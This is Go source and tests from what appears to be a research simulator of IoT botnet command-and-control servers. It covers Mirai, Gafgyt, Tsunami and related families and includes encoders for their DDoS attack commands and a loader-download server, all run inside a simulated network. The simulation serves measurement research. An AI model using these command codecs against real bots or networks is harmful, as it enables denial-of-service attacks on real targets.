func (sess *session) onConnect() {
	switch sess.srv.cfg.Family {
	case FamilyGafgyt, FamilyDaddyl33t, FamilyTsunami:
		sess.scheduleKeepalive()
	}
}

func (sess *session) scheduleKeepalive() {
	srv := sess.srv
	sess.kaEv = srv.net.Clock.After(srv.cfg.KeepaliveEvery, func() {
		if _, live := srv.sessions[sess]; !live {
			return
		}
		switch srv.cfg.Family {
		case FamilyGafgyt:
			sess.conn.Write([]byte(GafgytPing + "\n"))
		case FamilyDaddyl33t:
			sess.conn.Write([]byte(DaddyPing + "\n"))
		case FamilyTsunami:
			sess.conn.Write(IRCMessage{Command: "PING", Trailing: "c2"}.EncodeIRC())
		}
		sess.scheduleKeepalive()
	})
}

func (sess *session) onData(b []byte) {
	switch sess.srv.cfg.Family {
	case FamilyMirai:
		if !sess.ready && IsMiraiHandshake(b) {
			sess.ready = true
			return
		}
		if IsMiraiPing(b) {
			sess.conn.Write(MiraiPing) // echo keepalive
		}
	case FamilyGafgyt:
		sess.ready = true // any login line registers the bot
	case FamilyDaddyl33t:
		sess.buf = append(sess.buf, b...)
		var lines []string
		lines, sess.buf = Lines(sess.buf)
		for _, ln := range lines {
			if len(ln) >= 4 && ln[:4] == "l33t" {
				sess.ready = true
			}
		}
	case FamilyVPNFilter:
		// Stage-2 distribution endpoint: answer beacons with a
		// generic 200 so the bot holds the session.
		if len(b) > 4 && string(b[:4]) == "GET " {
			sess.conn.Write([]byte("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"))
			sess.ready = true
		}
	case FamilyTsunami:
		sess.buf = append(sess.buf, b...)
		var lines []string
		lines, sess.buf = Lines(sess.buf)
		for _, ln := range lines {
			m, err := ParseIRC(ln)
			if err != nil {
				continue
			}
			switch m.Command {
			case "NICK":
				if len(m.Params) > 0 {
					sess.nick = m.Params[0]
				}
				sess.conn.Write(IRCMessage{Prefix: "c2", Command: "001", Params: []string{sess.nick}, Trailing: "welcome"}.EncodeIRC())
			case "JOIN":
				sess.ready = true
			case "PONG":
				// keepalive answered; nothing to do
			}
		}
	}
}

// Issue sends an attack command to every ready session now. It
// returns the number of bots that received it; 0 means no bot was
// connected (nothing is logged then).
func (s *Server) Issue(cmd Command) (int, error) {
	wire, err := s.encode(cmd)
	if err != nil {
		return 0, err
	}
	bots := 0
	for sess := range s.sessions {
		if sess.ready {
			if sess.conn.Write(wire) == nil {
				bots++
			}
		}
	}
	if bots > 0 {
		s.Issued = append(s.Issued, IssuedCommand{Time: s.net.Clock.Now(), Cmd: cmd, Bots: bots})
	}
	return bots, nil
}

func (s *Server) encode(cmd Command) ([]byte, error) {
	switch s.cfg.Family {
	case FamilyMirai:
		return EncodeMiraiAttack(cmd)
	case FamilyGafgyt:
		return EncodeGafgytCommand(cmd)
	case FamilyDaddyl33t:
		return EncodeDaddyCommand(cmd)
	}
	return nil, fmt.Errorf("c2: family %q cannot issue attacks", s.cfg.Family)
}

// IssueText sends a raw operator line to every ready session —
// Tsunami's IRC command channel (Table 6: "download and execute
// files from the Internet"). The line is wrapped per the family's
// transport (PRIVMSG for IRC, newline-terminated otherwise).
func (s *Server) IssueText(line string) int {
	var wire []byte
	switch s.cfg.Family {
	case FamilyTsunami:
		wire = IRCMessage{Prefix: "op!op@c2", Command: "PRIVMSG", Params: []string{TsunamiChannel}, Trailing: line}.EncodeIRC()
	default:
		wire = append([]byte(line), '\n')
	}
	bots := 0
	for sess := range s.sessions {
		if sess.ready && sess.conn.Write(wire) == nil {
			bots++
		}
	}
	return bots
}

// attackChain is the tracked state of one scheduled attack: the
// command, when it fires next, and how many re-issuance attempts
// remain. Keeping the state out of closures (the historical shape)
// lets a checkpoint capture exactly where every chain stands and a
// resumed run re-arm it without replaying Issue side effects.
type attackChain struct {
	cmd     Command
	next    time.Time
	every   time.Duration
	retries int
	done    bool
	ev      simclock.EventID
}

// ChainState is an attack chain's serializable snapshot.
type ChainState struct {
	Cmd     Command
	Next    time.Time
	Every   time.Duration
	Retries int
	Done    bool
}

// ScheduleAttack arranges for cmd to be issued at the given time,
// retrying hourly (up to retries times) while no bot is connected —
// mirroring how operators re-issue commands until bots pick them up.
func (s *Server) ScheduleAttack(at time.Time, cmd Command, retries int) {
	s.ScheduleAttackEvery(at, cmd, retries, time.Hour)
}

// ScheduleAttackEvery is ScheduleAttack with an explicit retry
// interval.
func (s *Server) ScheduleAttackEvery(at time.Time, cmd Command, retries int, every time.Duration) {
	if every <= 0 {
		every = time.Hour
	}
	ch := &attackChain{cmd: cmd, next: at, every: every, retries: retries}
	s.chains = append(s.chains, ch)
	s.armChain(ch)
}

// armChain schedules the chain's next firing. A firing that reaches a
// bot (or errors, or exhausts its retries) finishes the chain;
// otherwise it re-arms one interval out.
func (s *Server) armChain(ch *attackChain) {
	ch.ev = s.net.Clock.Schedule(ch.next, func() {
		n, err := s.Issue(ch.cmd)
		if err != nil {
			ch.done = true
			return
		}
		if n == 0 && ch.retries > 0 {
			ch.retries--
			ch.next = s.net.Clock.Now().Add(ch.every)
			s.armChain(ch)
			return
		}
		ch.done = true
	})
}

// AttackChains snapshots every scheduled attack chain in creation
// order.
func (s *Server) AttackChains() []ChainState {
	out := make([]ChainState, len(s.chains))
	for i, ch := range s.chains {
		out[i] = ChainState{Cmd: ch.cmd, Next: ch.next, Every: ch.every, Retries: ch.retries, Done: ch.done}
	}
	return out
}

// RestoreAttackChains replaces the server's chains with a snapshot:
// pending firings of the old chains are cancelled and every non-done
// restored chain is re-armed at its snapshotted Next time. The study
// resume path calls this before replaying the clock, so a chain that
// already delivered (or burned retries) in the original run never
// re-issues during replay.
func (s *Server) RestoreAttackChains(states []ChainState) {
	for _, ch := range s.chains {
		if !ch.done {
			s.net.Clock.Cancel(ch.ev)
		}
	}
	s.chains = make([]*attackChain, 0, len(states))
	for _, st := range states {
		ch := &attackChain{cmd: st.Cmd, next: st.Next, every: st.Every, retries: st.Retries, done: st.Done}
		s.chains = append(s.chains, ch)
		if !ch.done {
			s.armChain(ch)
		}
	}
}

// ServeDownloader binds a minimal HTTP file server to the host — the
// loader-hosting role §3.1 finds co-located with C2s ("All
// downloader servers host on http port 80").
func ServeDownloader(h *simnet.Host, port uint16, files map[string][]byte) {
	h.ListenTCP(port, func(local, remote simnet.Addr) simnet.ConnHandler {
		var buf []byte
		return simnet.ConnFuncs{
			Data: func(c *simnet.Conn, b []byte) {
				buf = append(buf, b...)
				lines, _ := Lines(buf)
				if len(lines) == 0 {
					return
				}
				var path string
				if n, _ := fmt.Sscanf(lines[0], "GET %s HTTP/", &path); n != 1 {
					c.Write([]byte("HTTP/1.0 400 Bad Request\r\n\r\n"))
					c.Close()
					return
				}
				body, ok := files[path]
				if !ok {
					c.Write([]byte("HTTP/1.0 404 Not Found\r\n\r\n"))
					c.Close()
					return
				}
				c.Write([]byte(fmt.Sprintf("HTTP/1.0 200 OK\r\nContent-Length: %d\r\nContent-Type: application/octet-stream\r\n\r\n", len(body))))
				c.Write(body)
				c.Close()
			},
		}
	})
}
