package c2

import (
	"fmt"
	"net/netip"
	"strings"
	"testing"
	"time"

	"malnet/internal/simclock"
	"malnet/internal/simnet"
)

var t0 = time.Date(2021, 6, 1, 0, 0, 0, 0, time.UTC)

func newWorld() (*simnet.Network, *simclock.Clock) {
	clock := simclock.New(t0)
	return simnet.New(clock, simnet.DefaultConfig()), clock
}

func alwaysOnServer(n *simnet.Network, family string, ip string) *Server {
	return NewServer(n, ServerConfig{
		Family:   family,
		Addr:     simnet.AddrFrom(ip, 23),
		Birth:    t0,
		Death:    t0.Add(365 * 24 * time.Hour),
		AlwaysOn: true,
	})
}

func TestMiraiSessionHandshakeAndPingEcho(t *testing.T) {
	n, clock := newWorld()
	srv := alwaysOnServer(n, FamilyMirai, "60.0.0.1")
	bot := n.AddHost(netip.MustParseAddr("10.0.0.2"))

	var echoes int
	bot.DialTCP(srv.cfg.Addr, simnet.ConnFuncs{
		Connect: func(c *simnet.Conn) {
			c.Write(MiraiHandshake)
			c.Write(MiraiPing)
		},
		Data: func(c *simnet.Conn, b []byte) {
			if len(b) == 2 && b[0] == 0 && b[1] == 0 {
				echoes++
			}
		},
	})
	clock.RunFor(10 * time.Second)
	if echoes != 1 {
		t.Fatalf("ping echoes = %d, want 1", echoes)
	}
	if srv.Sessions() != 1 {
		t.Fatalf("sessions = %d", srv.Sessions())
	}
}

func TestIssueDeliversCommandToReadyBots(t *testing.T) {
	n, clock := newWorld()
	srv := alwaysOnServer(n, FamilyMirai, "60.0.0.1")
	bot := n.AddHost(netip.MustParseAddr("10.0.0.2"))

	var got *Command
	bot.DialTCP(srv.cfg.Addr, simnet.ConnFuncs{
		Connect: func(c *simnet.Conn) { c.Write(MiraiHandshake) },
		Data: func(c *simnet.Conn, b []byte) {
			if cmd, err := proto(t, FamilyMirai).DecodeCommand(b); err == nil {
				got = cmd
			}
		},
	})
	clock.RunFor(5 * time.Second)
	want := Command{Attack: AttackUDPFlood, Target: target, Port: 80, Duration: time.Minute}
	nBots, err := srv.Issue(want)
	if err != nil || nBots != 1 {
		t.Fatalf("Issue = %d, %v", nBots, err)
	}
	clock.RunFor(5 * time.Second)
	if got == nil || got.Attack != AttackUDPFlood || got.Target != target {
		t.Fatalf("bot received %+v", got)
	}
	if len(srv.Issued) != 1 || srv.Issued[0].Bots != 1 {
		t.Fatalf("issued log = %+v", srv.Issued)
	}
}

func TestIssueWithoutBotsNotLogged(t *testing.T) {
	n, _ := newWorld()
	srv := alwaysOnServer(n, FamilyMirai, "60.0.0.1")
	nBots, err := srv.Issue(Command{Attack: AttackUDPFlood, Target: target, Port: 80, Duration: time.Minute})
	if err != nil || nBots != 0 {
		t.Fatalf("Issue = %d, %v", nBots, err)
	}
	if len(srv.Issued) != 0 {
		t.Fatal("command without receivers was logged")
	}
}

func TestScheduleAttackRetriesUntilBotConnects(t *testing.T) {
	n, clock := newWorld()
	srv := alwaysOnServer(n, FamilyGafgyt, "60.0.0.1")
	cmd := Command{Attack: AttackUDPFlood, Target: target, Port: 80, Duration: time.Minute}
	srv.ScheduleAttack(t0.Add(time.Hour), cmd, 5)

	// Bot connects two hours in; the second retry should hit it.
	clock.Schedule(t0.Add(2*time.Hour), func() {
		bot := n.AddHost(netip.MustParseAddr("10.0.0.2"))
		bot.DialTCP(srv.cfg.Addr, simnet.ConnFuncs{
			Connect: func(c *simnet.Conn) { c.Write([]byte("BUILD GAFGYT\n")) },
		})
	})
	clock.RunFor(6 * time.Hour)
	if len(srv.Issued) != 1 {
		t.Fatalf("issued = %d, want 1 (via retry)", len(srv.Issued))
	}
}

func TestGafgytKeepalivePing(t *testing.T) {
	n, clock := newWorld()
	srv := alwaysOnServer(n, FamilyGafgyt, "60.0.0.1")
	_ = srv
	bot := n.AddHost(netip.MustParseAddr("10.0.0.2"))
	var pings int
	bot.DialTCP(srv.cfg.Addr, simnet.ConnFuncs{
		Connect: func(c *simnet.Conn) { c.Write([]byte("BUILD GAFGYT\n")) },
		Data: func(c *simnet.Conn, b []byte) {
			if strings.Contains(string(b), GafgytPing) {
				pings++
				c.Write([]byte(GafgytPong + "\n"))
			}
		},
	})
	clock.RunFor(3*time.Minute + 10*time.Second)
	if pings < 2 {
		t.Fatalf("keepalive pings = %d, want >= 2", pings)
	}
}

func TestTsunamiIRCRegistrationFlow(t *testing.T) {
	n, clock := newWorld()
	srv := alwaysOnServer(n, FamilyTsunami, "60.0.0.1")
	bot := n.AddHost(netip.MustParseAddr("10.0.0.2"))
	var welcomed bool
	bot.DialTCP(srv.cfg.Addr, simnet.ConnFuncs{
		Connect: func(c *simnet.Conn) {
			c.Write(IRCMessage{Command: "NICK", Params: []string{"bot42"}}.EncodeIRC())
		},
		Data: func(c *simnet.Conn, b []byte) {
			lines, _ := Lines(b)
			for _, ln := range lines {
				if m, err := ParseIRC(ln); err == nil && m.Command == "001" {
					welcomed = true
					c.Write(IRCMessage{Command: "JOIN", Params: []string{TsunamiChannel}}.EncodeIRC())
				}
			}
		},
	})
	clock.RunFor(10 * time.Second)
	if !welcomed {
		t.Fatal("IRC 001 welcome not received")
	}
	for sess := range srv.sessions {
		if !sess.ready {
			t.Fatal("session not ready after JOIN")
		}
	}
}

func TestServerDarkOutsideLifetime(t *testing.T) {
	n, clock := newWorld()
	srv := NewServer(n, ServerConfig{
		Family: FamilyMirai,
		Addr:   simnet.AddrFrom("60.0.0.1", 23),
		Birth:  t0.Add(24 * time.Hour),
		Death:  t0.Add(48 * time.Hour),
		Duty:   DutyCycle{SlotLen: time.Hour, RespAfterResp: 1, RespAfterIdle: 1, Seed: 1},
	})
	if srv.OnlineAt(t0) {
		t.Fatal("online before birth")
	}
	if srv.OnlineAt(t0.Add(72 * time.Hour)) {
		t.Fatal("online after death")
	}
	// Dial before birth: SYN timeout.
	bot := n.AddHost(netip.MustParseAddr("10.0.0.2"))
	var gotErr error
	bot.DialTCP(srv.cfg.Addr, simnet.ConnFuncs{
		Close: func(c *simnet.Conn, err error) { gotErr = err },
	})
	clock.RunFor(time.Minute)
	if gotErr != simnet.ErrTimeout {
		t.Fatalf("pre-birth dial err = %v, want timeout", gotErr)
	}
}

func TestDutyCycleNeverSixConsecutive(t *testing.T) {
	// Figure 4: "C2 servers never responded to all six probes in
	// one day." With P(resp|resp)=0.09 a 6-run is ~0.09^5; check
	// across many seeds and days.
	for seed := int64(0); seed < 200; seed++ {
		d := DefaultDutyCycle(seed)
		run := 0
		for slot := 0; slot < 84; slot++ { // two weeks of 4h slots
			if d.Responsive(slot) {
				run++
				if run >= 6 {
					t.Fatalf("seed %d: 6 consecutive responsive slots", seed)
				}
			} else {
				run = 0
			}
		}
	}
}

func TestDutyCycleSecondProbeMissRate(t *testing.T) {
	// §3.2: 91% of the time a server does not respond to a second
	// probe 4 hours after a successful probe.
	var after, miss int
	for seed := int64(0); seed < 500; seed++ {
		d := DefaultDutyCycle(seed)
		prev := false
		for slot := 0; slot < 84; slot++ {
			cur := d.Responsive(slot)
			if prev {
				after++
				if !cur {
					miss++
				}
			}
			prev = cur
		}
	}
	rate := float64(miss) / float64(after)
	if rate < 0.86 || rate > 0.96 {
		t.Fatalf("second-probe miss rate = %.3f, want ~0.91", rate)
	}
}

func TestDutyCycleDeterministic(t *testing.T) {
	a := DefaultDutyCycle(9)
	b := DefaultDutyCycle(9)
	for slot := 0; slot < 50; slot++ {
		if a.Responsive(slot) != b.Responsive(slot) {
			t.Fatalf("slot %d differs across equal seeds", slot)
		}
	}
}

func TestDownloaderServesLoader(t *testing.T) {
	n, clock := newWorld()
	NewServer(n, ServerConfig{
		Family: FamilyMirai,
		Addr:   simnet.AddrFrom("60.0.0.1", 23),
		Birth:  t0, Death: t0.Add(time.Hour), AlwaysOn: true,
		Downloader: map[string][]byte{"/t8UsA2.sh": []byte("#!/bin/sh\nwget...\n")},
	})
	cli := n.AddHost(netip.MustParseAddr("10.0.0.2"))
	var resp []byte
	cli.DialTCP(simnet.AddrFrom("60.0.0.1", 80), simnet.ConnFuncs{
		Connect: func(c *simnet.Conn) { c.Write([]byte("GET /t8UsA2.sh HTTP/1.0\r\n\r\n")) },
		Data:    func(c *simnet.Conn, b []byte) { resp = append(resp, b...) },
	})
	clock.RunFor(5 * time.Second)
	if !strings.Contains(string(resp), "200 OK") || !strings.Contains(string(resp), "wget") {
		t.Fatalf("response = %q", resp)
	}
}

func TestDownloader404(t *testing.T) {
	n, clock := newWorld()
	NewServer(n, ServerConfig{
		Family: FamilyMirai,
		Addr:   simnet.AddrFrom("60.0.0.1", 23),
		Birth:  t0, Death: t0.Add(time.Hour), AlwaysOn: true,
		Downloader: map[string][]byte{"/x.sh": nil},
	})
	cli := n.AddHost(netip.MustParseAddr("10.0.0.2"))
	var resp []byte
	cli.DialTCP(simnet.AddrFrom("60.0.0.1", 80), simnet.ConnFuncs{
		Connect: func(c *simnet.Conn) { c.Write([]byte("GET /missing HTTP/1.0\r\n\r\n")) },
		Data:    func(c *simnet.Conn, b []byte) { resp = append(resp, b...) },
	})
	clock.RunFor(5 * time.Second)
	if !strings.Contains(string(resp), "404") {
		t.Fatalf("response = %q", resp)
	}
}

func TestSessionTTLClosesIdleBots(t *testing.T) {
	n, clock := newWorld()
	srv := NewServer(n, ServerConfig{
		Family: FamilyMirai,
		Addr:   simnet.AddrFrom("60.0.0.1", 23),
		Birth:  t0, Death: t0.Add(100 * time.Hour), AlwaysOn: true,
		SessionTTL: time.Hour,
	})
	bot := n.AddHost(netip.MustParseAddr("10.0.0.2"))
	closed := false
	bot.DialTCP(srv.cfg.Addr, simnet.ConnFuncs{
		Connect: func(c *simnet.Conn) { c.Write(MiraiHandshake) },
		Close:   func(c *simnet.Conn, err error) { closed = true },
	})
	clock.RunFor(2 * time.Hour)
	if !closed {
		t.Fatal("session not closed after TTL")
	}
	if srv.Sessions() != 0 {
		t.Fatalf("sessions = %d after TTL", srv.Sessions())
	}
}

func TestServerDeathMidSessionBotRotates(t *testing.T) {
	// Failure injection: the C2 goes dark while a bot session is
	// up. The bot's engagement watchdog must notice the silence and
	// rotate to its fallback C2.
	n, clock := newWorld()
	dying := NewServer(n, ServerConfig{
		Family: FamilyMirai, Addr: simnet.AddrFrom("60.0.0.1", 23),
		Birth: t0, Death: t0.Add(30 * time.Minute), AlwaysOn: true,
	})
	fallback := alwaysOnServer(n, FamilyMirai, "60.0.0.2")
	_ = dying

	// A hand-driven "bot": connect to the dying server, then after
	// death try the fallback (the malware package owns the real
	// rotation logic; here we assert the server side behaves).
	bot := n.AddHost(netip.MustParseAddr("10.0.0.2"))
	var firstClosed bool
	bot.DialTCP(simnet.AddrFrom("60.0.0.1", 23), simnet.ConnFuncs{
		Connect: func(c *simnet.Conn) { c.Write(MiraiHandshake) },
		Close:   func(c *simnet.Conn, err error) { firstClosed = true },
	})
	clock.RunUntil(t0.Add(40 * time.Minute))
	if dying.Host().Online {
		t.Fatal("server still online past death")
	}
	// Pings into the void are dropped; session data cannot arrive.
	var echoed bool
	bot.DialTCP(simnet.AddrFrom("60.0.0.2", 23), simnet.ConnFuncs{
		Connect: func(c *simnet.Conn) { c.Write(MiraiHandshake); c.Write(MiraiPing) },
		Data:    func(c *simnet.Conn, b []byte) { echoed = len(b) == 2 && b[0] == 0 && b[1] == 0 },
	})
	clock.RunFor(time.Minute)
	if !echoed {
		t.Fatal("fallback C2 did not engage")
	}
	_ = firstClosed
	if fallback.Sessions() != 1 {
		t.Fatalf("fallback sessions = %d", fallback.Sessions())
	}
}

func TestMalformedProtocolInputDoesNotCrashServer(t *testing.T) {
	// Failure injection: garbage and truncated protocol input on
	// every family's listener.
	n, clock := newWorld()
	payloads := [][]byte{
		{}, {0x00}, {0xff, 0xff, 0xff, 0xff},
		[]byte("PRIVMSG"), []byte(":::\r\n"), []byte("!* UDP notanip -1 x\n"),
		[]byte(strings.Repeat("A", 4096)),
	}
	for i, family := range []string{FamilyMirai, FamilyGafgyt, FamilyDaddyl33t, FamilyTsunami, FamilyVPNFilter} {
		srv := alwaysOnServer(n, family, fmt.Sprintf("60.0.1.%d", i+1))
		bot := n.AddHost(netip.MustParseAddr(fmt.Sprintf("10.0.1.%d", i+1)))
		bot.DialTCP(srv.Config().Addr, simnet.ConnFuncs{
			Connect: func(c *simnet.Conn) {
				for _, p := range payloads {
					if len(p) > 0 {
						c.Write(p)
					}
				}
			},
		})
	}
	clock.RunFor(time.Minute) // panics would fail the test
}
