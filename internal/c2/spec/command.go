package spec

import (
	"fmt"
	"net/netip"
	"time"
)

// AttackType is one of the eight observed DDoS attack types (§5.1).
type AttackType uint8

// The eight attack types of Figure 11.
const (
	AttackUDPFlood AttackType = iota
	AttackSYNFlood
	AttackTLS
	AttackBlacknurse
	AttackSTOMP
	AttackVSE
	AttackSTD
	AttackNFO
)

// String names the attack type as the paper does.
func (a AttackType) String() string {
	switch a {
	case AttackUDPFlood:
		return "UDP Flood"
	case AttackSYNFlood:
		return "SYN Flood"
	case AttackTLS:
		return "TLS"
	case AttackBlacknurse:
		return "BLACKNURSE"
	case AttackSTOMP:
		return "STOMP"
	case AttackVSE:
		return "VSE"
	case AttackSTD:
		return "STD"
	case AttackNFO:
		return "NFO"
	}
	return fmt.Sprintf("AttackType(%d)", uint8(a))
}

// TargetProto returns the victim-side protocol the attack rides on,
// the dimension of Figure 10.
func (a AttackType) TargetProto() string {
	switch a {
	case AttackUDPFlood, AttackVSE, AttackSTD, AttackNFO:
		return "UDP"
	case AttackSYNFlood, AttackSTOMP:
		return "TCP"
	case AttackTLS:
		// The daddyl33t TLS variant floods a UDP/DTLS port; the
		// Mirai variant is TCP. Per-command Port semantics decide;
		// the aggregate is labeled by the dominant UDP use.
		return "UDP"
	case AttackBlacknurse:
		return "ICMP"
	}
	return "?"
}

// Command is a parsed DDoS command.
type Command struct {
	Attack   AttackType
	Target   netip.Addr
	Port     uint16 // 0 when the attack has no port (BLACKNURSE)
	Duration time.Duration
	// TCPTransport marks TLS commands aimed at a TCP service
	// (Mirai's variant) rather than UDP/DTLS (daddyl33t's).
	TCPTransport bool
	// Raw is the wire form the command arrived in.
	Raw []byte
}

// String renders the command for reports.
func (c Command) String() string {
	if c.Port == 0 {
		return fmt.Sprintf("%s %s %ds", c.Attack, c.Target, int(c.Duration.Seconds()))
	}
	return fmt.Sprintf("%s %s:%d %ds", c.Attack, c.Target, c.Port, int(c.Duration.Seconds()))
}
