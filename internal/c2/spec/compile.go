package spec

import (
	"encoding/binary"
	"fmt"
	"net/netip"
	"strconv"
	"strings"
	"time"
)

// Compiled is an executable protocol: the codec, the login
// sequence, and factories for the client- and server-side session
// machines, all derived from one ProtocolSpec.
type Compiled struct {
	spec      ProtocolSpec
	needsNick bool

	// binary command tables
	vecOf    map[AttackType]VectorSpec
	attackOf map[uint8]VectorSpec
	// text command tables
	verbOf       map[AttackType]VerbSpec
	attackOfVerb map[string]VerbSpec
}

// Name returns the family name.
func (c *Compiled) Name() string { return c.spec.Name }

// Spec returns the protocol's declarative source.
func (c *Compiled) Spec() ProtocolSpec { return c.spec }

// CanIssue reports whether the family has an attack-command codec.
func (c *Compiled) CanIssue() bool { return c.spec.Commands != nil }

// NeedsNick reports whether the login sequence references {nick},
// so callers can avoid drawing nick randomness for families that
// never use one.
func (c *Compiled) NeedsNick() bool { return c.needsNick }

// LoginVars are the values substituted into login templates.
type LoginVars struct {
	Variant string
	Nick    string
}

// Login renders the session-opening wire sequence.
func (c *Compiled) Login(v LoginVars) [][]byte {
	out := make([][]byte, 0, len(c.spec.Login))
	for _, tpl := range c.spec.Login {
		s := strings.ReplaceAll(tpl, "{variant}", v.Variant)
		s = strings.ReplaceAll(s, "{nick}", v.Nick)
		out = append(out, []byte(s))
	}
	return out
}

// ClientKeepalive returns the bot-initiated keepalive wire and
// cadence; ok is false for families whose bots only answer server
// pings.
func (c *Compiled) ClientKeepalive() (wire []byte, every time.Duration, ok bool) {
	ka := c.spec.Keepalive
	if ka.Client == "" {
		return nil, 0, false
	}
	every = time.Duration(ka.ClientEverySecs) * time.Second
	if every <= 0 {
		every = time.Minute
	}
	return []byte(ka.Client), every, true
}

// ServerKeepalive returns the server→bot ping wire; ok is false for
// families whose servers never ping.
func (c *Compiled) ServerKeepalive() ([]byte, bool) {
	if c.spec.Keepalive.Server == "" {
		return nil, false
	}
	return []byte(c.spec.Keepalive.Server), true
}

// WrapText wraps a raw operator line per the family's transport:
// PRIVMSG to the control channel for IRC, newline-terminated
// otherwise.
func (c *Compiled) WrapText(line string) []byte {
	if c.spec.Framing == FramingIRC {
		return IRCMessage{Prefix: "op!op@c2", Command: "PRIVMSG",
			Params: []string{c.spec.Session.Channel}, Trailing: line}.EncodeIRC()
	}
	return append([]byte(line), '\n')
}

// ProbeMessages returns the weaponized-probe opening sequence, nil
// when the spec declares none.
func (c *Compiled) ProbeMessages() [][]byte {
	if c.spec.Probe == nil {
		return nil
	}
	out := make([][]byte, 0, len(c.spec.Probe.Messages))
	for _, m := range c.spec.Probe.Messages {
		out = append(out, []byte(m))
	}
	return out
}

// ProbeEngaged classifies peer data as C2-protocol engagement.
// Specs without a probe rule treat any data as engagement.
func (c *Compiled) ProbeEngaged(data []byte) bool {
	if c.spec.Probe == nil {
		return len(data) > 0
	}
	for _, m := range c.spec.Probe.Engage {
		if m.Matches(data) {
			return true
		}
	}
	return false
}

// Signature labels a session's first outbound payload when it
// matches the family's protocol artifact.
func (c *Compiled) Signature(firstOut []byte) (string, bool) {
	s := c.spec.Signature
	if s == nil || !s.Match.Matches(firstOut) {
		return "", false
	}
	return s.Label, true
}

// ---- command codec ----

// EncodeCommand renders cmd in the family's wire encoding.
func (c *Compiled) EncodeCommand(cmd Command) ([]byte, error) {
	switch {
	case c.vecOf != nil:
		return c.encodeBinary(cmd)
	case c.verbOf != nil:
		return c.encodeText(cmd)
	}
	return nil, fmt.Errorf("%w: family %q has no command codec", ErrNotAttack, c.spec.Name)
}

// DecodeCommand parses the first attack command in data (text
// grammars scan complete lines; binary grammars decode the frame).
func (c *Compiled) DecodeCommand(data []byte) (*Command, error) {
	switch {
	case c.vecOf != nil:
		return c.decodeBinary(data)
	case c.verbOf != nil:
		lines, rest := Lines(data)
		if len(rest) > 0 {
			lines = append(lines, string(rest)) // unterminated final line
		}
		var firstErr error
		for _, ln := range lines {
			cmd, err := c.ParseCommandLine(ln)
			if err == nil {
				return cmd, nil
			}
			if firstErr == nil {
				firstErr = err
			}
		}
		if firstErr == nil {
			firstErr = ErrNotCommand
		}
		return nil, firstErr
	}
	return nil, fmt.Errorf("%w: family %q has no command codec", ErrNotCommand, c.spec.Name)
}

func (c *Compiled) encodeBinary(cmd Command) ([]byte, error) {
	v, ok := c.vecOf[cmd.Attack]
	if !ok {
		return nil, fmt.Errorf("%w: %v is not a %s attack", ErrNotAttack, cmd.Attack, c.spec.Name)
	}
	if !cmd.Target.Is4() {
		return nil, fmt.Errorf("%w: target %v is not IPv4", ErrNotAttack, cmd.Target)
	}
	body := make([]byte, 0, 16)
	body = binary.BigEndian.AppendUint32(body, uint32(cmd.Duration.Seconds()))
	body = append(body, v.Vector, 1) // one target
	ip := cmd.Target.As4()
	body = append(body, ip[:]...)
	body = append(body, 32) // /32
	if cmd.Port != 0 {
		body = append(body, 1, c.spec.Commands.Binary.DportOptKey, 2)
		body = binary.BigEndian.AppendUint16(body, cmd.Port)
	} else {
		body = append(body, 0)
	}
	out := make([]byte, 2, 2+len(body))
	binary.BigEndian.PutUint16(out, uint16(2+len(body)))
	return append(out, body...), nil
}

func (c *Compiled) decodeBinary(b []byte) (*Command, error) {
	if len(b) < 2 {
		return nil, ErrShort
	}
	total := int(binary.BigEndian.Uint16(b))
	if total > len(b) || total < 8 {
		return nil, ErrShort
	}
	body := b[2:total]
	if len(body) < 6 {
		return nil, ErrShort
	}
	dur := time.Duration(binary.BigEndian.Uint32(body)) * time.Second
	v, ok := c.attackOf[body[4]]
	if !ok {
		return nil, fmt.Errorf("%w: vector %d", ErrVector, body[4])
	}
	n := int(body[5])
	pos := 6
	if n < 1 || len(body) < pos+5*n+1 {
		return nil, ErrShort
	}
	target := netip.AddrFrom4([4]byte(body[pos : pos+4]))
	pos += 5 * n
	cmd := &Command{Attack: v.Attack, Target: target, Duration: dur, Raw: b[:total]}
	nOpts := int(body[pos])
	pos++
	for i := 0; i < nOpts; i++ {
		if len(body) < pos+2 {
			return nil, ErrShort
		}
		key, vlen := body[pos], int(body[pos+1])
		pos += 2
		if len(body) < pos+vlen {
			return nil, ErrShort
		}
		if key == c.spec.Commands.Binary.DportOptKey && vlen == 2 {
			cmd.Port = binary.BigEndian.Uint16(body[pos:])
		}
		pos += vlen
	}
	cmd.TCPTransport = v.TCPTransport
	return cmd, nil
}

func (c *Compiled) encodeText(cmd Command) ([]byte, error) {
	v, ok := c.verbOf[cmd.Attack]
	if !ok {
		return nil, fmt.Errorf("%w: %v is not a %s attack", ErrNotAttack, cmd.Attack, c.spec.Name)
	}
	prefix := c.spec.Commands.Text.Prefix
	if v.Portless {
		return []byte(fmt.Sprintf("%s%s %s %d\n", prefix, v.Verb, cmd.Target, int(cmd.Duration.Seconds()))), nil
	}
	return []byte(fmt.Sprintf("%s%s %s %d %d\n", prefix, v.Verb, cmd.Target, cmd.Port, int(cmd.Duration.Seconds()))), nil
}

// ParseCommandLine parses one text-protocol line. Non-command
// chatter returns ErrNotCommand; a prefixed-but-malformed line
// returns ErrBadCommand.
func (c *Compiled) ParseCommandLine(line string) (*Command, error) {
	if c.verbOf == nil {
		return nil, ErrNotCommand
	}
	line = strings.TrimSpace(line)
	prefix := c.spec.Commands.Text.Prefix
	body := line
	if prefix != "" {
		if !strings.HasPrefix(line, prefix) {
			return nil, ErrNotCommand
		}
		body = line[len(prefix):]
	}
	fields := strings.Fields(body)
	if len(fields) == 0 {
		return nil, ErrNotCommand
	}
	v, ok := c.attackOfVerb[fields[0]]
	if !ok {
		if prefix != "" {
			// The line claimed to be a command (it carried the
			// prefix) but the verb is unknown — malformed, not
			// chatter. Bare-verb grammars treat it as chatter.
			if len(fields) < 4 {
				return nil, fmt.Errorf("%w: %q", ErrBadCommand, line)
			}
			return nil, fmt.Errorf("%w: verb %q", ErrBadCommand, fields[0])
		}
		return nil, ErrNotCommand
	}
	if v.Portless {
		if len(fields) < 3 {
			return nil, fmt.Errorf("%w: %q", ErrBadCommand, line)
		}
		return parseIPPortSecs(v.Attack, fields[1], "0", fields[2], line)
	}
	if len(fields) < 4 {
		return nil, fmt.Errorf("%w: %q", ErrBadCommand, line)
	}
	return parseIPPortSecs(v.Attack, fields[1], fields[2], fields[3], line)
}

func parseIPPortSecs(attack AttackType, ipS, portS, secS, raw string) (*Command, error) {
	ip, err := netip.ParseAddr(ipS)
	if err != nil {
